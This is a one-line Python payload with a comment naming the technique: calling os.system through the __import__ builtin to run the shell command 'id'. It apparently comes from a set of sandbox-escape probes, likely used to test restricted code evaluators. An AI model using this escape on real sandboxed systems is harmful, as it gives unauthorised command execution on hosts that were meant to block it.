# Technique: __import__('os').system via the builtin.
emit_result(__import__("os").system("id"))
